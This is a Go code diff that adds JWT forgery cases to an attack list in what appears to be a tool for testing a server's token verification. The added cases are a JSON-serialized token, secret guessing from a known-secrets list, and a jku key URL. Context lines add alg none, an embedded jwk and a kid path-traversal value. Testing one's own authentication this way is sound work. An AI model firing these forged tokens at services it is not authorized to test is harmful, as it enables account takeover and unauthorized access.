@@ -78,6 +78,10 @@ var attacks = []attack{
 		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
 		r.Body, r.ContentLength = io.NopCloser(strings.NewReader(text)), int64(len(text))
 	}},
+	header("the token as JSON, which the standard for signatures allows", func(t *target) string {
+		parts := strings.Split(t.token, ".")
+		return `Bearer {"protected":"` + parts[0] + `","payload":"` + parts[1] + `","signature":"` + parts[2] + `"}` // RFC 7515 §7.2.2
+	}),
 	{what: "the token in another header, X-Access-Token", prepare: func(t *target, r *http.Request) { r.Header.Set("X-Access-Token", t.token) }},
 
 	bearer("signed with another secret", func(t *target) string {
@@ -85,6 +89,7 @@ var attacks = []attack{
 	}),
 	bearer("signed with an empty secret", func(t *target) string { return t.forge(nil, jwt.SigningMethodHS256, []byte{}) }),
 	bearer("signed with the tutorial's secret, super-secret", func(t *target) string { return t.forge(nil, jwt.SigningMethodHS256, []byte("super-secret")) }),
+	bearer("signed with your secret, found in a list of known ones", func(t *target) string { return t.forge(nil, jwt.SigningMethodHS256, t.guess()) }),
 	bearer("not signed, alg none", func(t *target) string {
 		return t.forge(nil, jwt.SigningMethodNone, jwt.UnsafeAllowNoneSignatureType)
 	}),
@@ -100,6 +105,9 @@ var attacks = []attack{
 	bearer("signed with a key that the token brings itself (jwk)", func(t *target) string {
 		key := []byte("a key of somebody else's, of 32 bytes and more")
 		return t.sign(map[string]any{"jwk": map[string]any{"kty": "oct", "k": base64.RawURLEncoding.EncodeToString(key)}}, key)
+	}),
+	bearer("signed with a key at an address that the token names (jku)", func(t *target) string {
+		return t.sign(map[string]any{"jku": t.keys.url, "kid": "1"}, t.keys.key)
 	}),
 	bearer("signed with the empty file that the token names (kid)", func(t *target) string {
 		return t.sign(map[string]any{"kid": "../../../../../../dev/null"}, []byte{})
